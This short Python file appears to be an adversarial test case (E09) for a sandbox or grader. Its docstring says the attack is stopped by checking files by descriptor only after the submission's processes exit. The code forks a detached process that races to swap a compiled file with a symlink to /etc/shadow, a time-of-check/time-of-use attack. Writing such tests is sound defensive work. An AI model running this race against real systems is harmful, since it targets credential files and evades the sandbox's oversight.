"""E09: swap files for links while somebody checks and opens them

Stopped by: files are looked at by descriptor, and only when nobody of the submission runs any more.
"""

import os
import shutil
import threading

stop = threading.Event()


def swap():
    while not stop.is_set():
        try:
            os.symlink("/etc/shadow", "/tmp/compiled/new")
            os.replace("/tmp/compiled/new", "/tmp/compiled/x.pyc")
            with open("/tmp/compiled/other", "w") as file:
                file.write("x")
            os.replace("/tmp/compiled/other", "/tmp/compiled/x.pyc")
        except OSError:
            continue


os.makedirs("/tmp/compiled", exist_ok=True)
if os.fork() == 0:
    os.setsid()
    swap()
threading.Thread(target=swap, daemon=True).start()


def attacked(numbers):
    stop.set()
    try:
        print("GOT", os.readlink("/job/compiled/x.pyc"))
    except OSError:
        pass
    shutil.rmtree("/tmp/compiled", ignore_errors=True)
    return numbers
